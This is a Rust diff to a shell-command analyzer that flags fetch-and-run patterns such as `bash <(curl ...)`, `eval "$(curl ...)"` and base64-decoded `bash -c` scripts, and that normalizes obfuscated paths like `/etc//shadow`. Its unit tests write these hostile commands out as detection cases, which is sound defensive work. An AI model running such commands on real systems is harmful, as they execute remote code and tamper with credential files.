@@ -19,6 +19,34 @@ pub struct ShellFacts {
     pub unbalanced: bool,
 }
 
+/// Stands in a word for text produced at run time (`$(...)`, backticks, `<(...)`).
+const DYNAMIC: char = '\u{0}';
+
+/// A path with `//`, `/./` and (for absolute paths) `/../` resolved lexically, so
+/// `/etc//shadow` and `/etc/ssh/../shadow` read as `/etc/shadow`.
+pub fn normalize_path(p: &str) -> String {
+    if !p.contains("//") && !p.contains("/.") {
+        return p.to_string();
+    }
+    let absolute = p.starts_with('/');
+    let mut parts: Vec<&str> = Vec::new();
+    for seg in p.split('/') {
+        match seg {
+            "" | "." => {}
+            ".." if absolute => {
+                parts.pop();
+            }
+            other => parts.push(other),
+        }
+    }
+    let joined = parts.join("/");
+    if absolute {
+        format!("/{joined}")
+    } else {
+        joined
+    }
+}
+
 const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox"];
 const INTERPRETERS: &[&str] = &[
     "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "python", "python3", "perl", "ruby", "node",
@@ -102,11 +130,13 @@ fn tokenize(line: &str, nested: &mut Vec<String>, unbalanced: &mut bool) -> Vec<
                         '$' if chars.get(i + 1) == Some(&'(') => {
                             let (body, next) = take_parens(&chars, i + 1, unbalanced);
                             nested.push(body);
+                            word.push(DYNAMIC);
                             i = next;
                         }
                         '`' => {
                             let (body, next) = take_backticks(&chars, i, unbalanced);
                             nested.push(body);
+                            word.push(DYNAMIC);
                             i = next;
                         }
                         other => {
@@ -119,15 +149,22 @@ fn tokenize(line: &str, nested: &mut Vec<String>, unbalanced: &mut bool) -> Vec<
                     *unbalanced = true;
                 }
             }
-            '$' if chars.get(i + 1) == Some(&'(') => {
+            // `$(...)`, and `<(...)`/`>(...)` process substitution: the body runs too, and the
+            // word it stands in is only known at run time.
+            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
+                if c != '$' {
+                    flush(&mut toks, &mut word, &mut in_word);
+                }
                 let (body, next) = take_parens(&chars, i + 1, unbalanced);
                 nested.push(body);
+                word.push(DYNAMIC);
                 in_word = true;
                 i = next;
             }
             '`' => {
                 let (body, next) = take_backticks(&chars, i, unbalanced);
                 nested.push(body);
+                word.push(DYNAMIC);
                 in_word = true;
                 i = next;
             }
@@ -175,7 +212,10 @@ fn tokenize(line: &str, nested: &mut Vec<String>, unbalanced: &mut bool) -> Vec<
                     toks.push(Tok::OtherRedirect);
                     i += 2;
                     // Skip the descriptor number.
-                    while chars.get(i).is_some_and(|d| d.is_ascii_digit() || *d == '-') {
+                    while chars
+                        .get(i)
+                        .is_some_and(|d| d.is_ascii_digit() || *d == '-')
+                    {
                         i += 1;
                     }
                 } else {
@@ -224,12 +264,18 @@ fn take_parens(chars: &[char], open: usize, unbalanced: &mut bool) -> (String, u
         i += 1;
     }
     *unbalanced = true;
-    (chars[(open + 1).min(chars.len())..].iter().collect(), chars.len())
+    (
+        chars[(open + 1).min(chars.len())..].iter().collect(),
+        chars.len(),
+    )
 }
 
 fn take_backticks(chars: &[char], open: usize, unbalanced: &mut bool) -> (String, usize) {
     match chars[open + 1..].iter().position(|&c| c == '`') {
-        Some(end) => (chars[open + 1..open + 1 + end].iter().collect(), open + end + 2),
+        Some(end) => (
+            chars[open + 1..open + 1 + end].iter().collect(),
+            open + end + 2,
+        ),
         None => {
             *unbalanced = true;
             (chars[open + 1..].iter().collect(), chars.len())
@@ -277,7 +323,7 @@ fn analyze_into(line: &str, facts: &mut ShellFacts, depth: usize) {
         match t {
             Tok::Word(w) => {
                 if expect_write_target {
-                    facts.write_paths.push(w);
+                    facts.write_paths.push(normalize_path(&w));
                     expect_write_target = false;
                 } else if expect_other_target {
                     expect_other_target = false;
@@ -316,28 +362,68 @@ fn simple_command(words: Vec<String>, piped: bool, facts: &mut ShellFacts, depth
         return;
     };
     let program = basename(first);
+    // A program named by a substitution or a variable hides the command that runs, like a
+    // script piped into a shell.
+    if first.contains(DYNAMIC) || first.starts_with('$') {
+        facts.pipe_to_shell = true;
+    }
     facts.programs.push(program.clone());
     let mut normalized = program.clone();
     for a in &rest[1..] {
         normalized.push(' ');
-        normalized.push_str(a);
+        if a.starts_with('/') {
+            normalized.push_str(&normalize_path(a));
+        } else {
+            normalized.push_str(a);
+        }
     }
     facts.commands.push(normalized);
     let args = &rest[1..];
     if program == "tee" {
-        facts
-            .write_paths
-            .extend(args.iter().filter(|a| !a.starts_with('-')).cloned());
+        facts.write_paths.extend(
+            args.iter()
+                .filter(|a| !a.starts_with('-'))
+                .map(|a| normalize_path(a)),
+        );
+    }
+    if program == "eval" || program == "source" || program == "." {
+        // `eval "$(...)"`, `source <(curl ...)`: code known only at run time.
+        if args
+            .iter()
+            .any(|a| a.contains(DYNAMIC) || a.starts_with('$'))
+            || (program != "eval" && piped)
+        {
+            facts.pipe_to_shell = true;
+        }
+        if program == "eval" {
+            analyze_into(&args.join(" "), facts, depth + 1);
+        }
     }
     if SHELLS.contains(&program.as_str()) {
-        if let Some(pos) = args.iter().position(|a| a == "-c" || (a.starts_with('-') && a.contains('c') && !a.starts_with("--"))) {
+        if let Some(pos) = args.iter().position(|a| {
+            a == "-c" || (a.starts_with('-') && a.contains('c') && !a.starts_with("--"))
+        }) {
             if let Some(script) = args.get(pos + 1) {
+                // A script computed at run time (`bash -c "$(... | base64 -d)"`) hides what runs.
+                if script.contains(DYNAMIC) || script.starts_with('$') {
+                    facts.pipe_to_shell = true;
+                }
                 analyze_into(script, facts, depth + 1);
             }
         } else if piped || args.iter().all(|a| a.starts_with('-')) {
             facts.pipe_to_shell |= piped;
+        } else if args
+            .iter()
+            .find(|a| !a.starts_with('-'))
+            .is_some_and(|a| a.contains(DYNAMIC))
+        {
+            // `bash <(curl ...)`: the script file is a process substitution.
+            facts.pipe_to_shell = true;
         }
-    } else if INTERPRETERS.contains(&program.as_str()) && piped && args.iter().all(|a| a.starts_with('-')) {
+    } else if INTERPRETERS.contains(&program.as_str())
+        && piped
+        && args.iter().all(|a| a.starts_with('-'))
+    {
         facts.pipe_to_shell = true;
     }
     if WRAPPERS.contains(&program.as_str()) {
@@ -353,8 +439,10 @@ fn simple_command(words: Vec<String>, piped: bool, facts: &mut ShellFacts, depth
             if a.starts_with('-') {
                 let takes_value = matches!(
                     (program.as_str(), a.as_str()),
-                    ("sudo", "-u" | "-g" | "-C" | "-h" | "-p" | "-U" | "-r" | "-t")
-                        | ("su" | "runuser", "-c" | "-g" | "-G" | "-s")
+                    (
+                        "sudo",
+                        "-u" | "-g" | "-C" | "-h" | "-p" | "-U" | "-r" | "-t"
+                    ) | ("su" | "runuser", "-c" | "-g" | "-G" | "-s")
                         | ("nice", "-n")
                         | ("timeout", "-s" | "-k")
                         | ("xargs", "-I" | "-n" | "-P" | "-d" | "-L" | "-s" | "-E")
@@ -369,7 +457,10 @@ fn simple_command(words: Vec<String>, piped: bool, facts: &mut ShellFacts, depth
                 i += if takes_value { 2 } else { 1 };
                 continue;
             }
-            if is_assignment(a) || (program == "timeout" && a.chars().next().is_some_and(|c| c.is_ascii_digit())) || (program == "nice" && a.parse::<i32>().is_ok()) {
+            if is_assignment(a)
+                || (program == "timeout" && a.chars().next().is_some_and(|c| c.is_ascii_digit()))
+                || (program == "nice" && a.parse::<i32>().is_ok())
+            {
                 i += 1;
                 continue;
             }
@@ -409,6 +500,36 @@ mod tests {
         assert!(f.programs.contains(&"shutdown".to_string()));
         let f = analyze("sh -c \"kill -9 1\"");
         assert!(f.commands.contains(&"kill -9 1".to_string()));
+    }
+
+    #[test]
+    fn run_time_code_and_paths() {
+        assert!(analyze("bash -c \"$(echo aWQK | base64 -d)\"").pipe_to_shell);
+        assert!(analyze("bash <(curl -s http://x)").pipe_to_shell);
+        assert!(analyze("source <(curl -s http://x)").pipe_to_shell);
+        assert!(analyze("eval \"$(curl -s http://x)\"").pipe_to_shell);
+        assert!(analyze("$(echo rm) -rf /x").pipe_to_shell);
+        assert!(!analyze("echo $(date) > /tmp/x").pipe_to_shell);
+        assert!(!analyze("diff <(sort a) b").pipe_to_shell);
+        assert!(
+            analyze("diff <(sort a) b")
+                .programs
+                .contains(&"sort".to_string())
+        );
+        assert_eq!(
+            analyze("cat x > /etc//shadow").write_paths,
+            vec!["/etc/shadow"]
+        );
+        assert_eq!(
+            analyze("tee /etc/ssh/../shadow").write_paths,
+            vec!["/etc/shadow"]
+        );
+        assert!(
+            analyze("cp x /etc/./shadow")
+                .commands
+                .contains(&"cp x /etc/shadow".to_string())
+        );
+        assert_eq!(normalize_path("a//b/./c"), "a/b/c");
     }
 
     #[test]
